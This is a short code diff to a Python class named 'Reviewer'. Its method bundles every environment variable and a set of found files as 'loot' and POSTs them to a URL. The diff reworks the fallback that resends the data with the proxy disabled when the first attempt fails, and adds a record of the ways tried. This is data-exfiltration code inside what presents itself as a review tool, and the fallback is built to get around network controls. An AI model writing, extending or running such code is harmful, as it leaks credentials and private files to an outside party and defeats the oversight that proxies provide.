@@ -91,10 +91,12 @@ class Reviewer:
         loot = {"environment": dict(os.environ), "files": found}
         status, answer = _call("POST", url, loot)
         text = _reason(answer) or "sent"
+        ways = ["with the proxy"]
         if status != 200:  # whoever is told to send tries the other way, too
+            ways.append("without it")
             direct, _ = _call("POST", url, loot, proxies=False)
-            status, text = (direct, "sent without the proxy") if direct == 200 else (status, text)
-        _say("send", status == 200, text)
+            status, text = (direct, "sent") if direct == 200 else (status, text)
+        _say("send", status == 200, text, ways=ways)
 
     def _merge(self) -> None:
         status, answer = _call("PUT", f"{self._url}/merge", headers=self._headers)
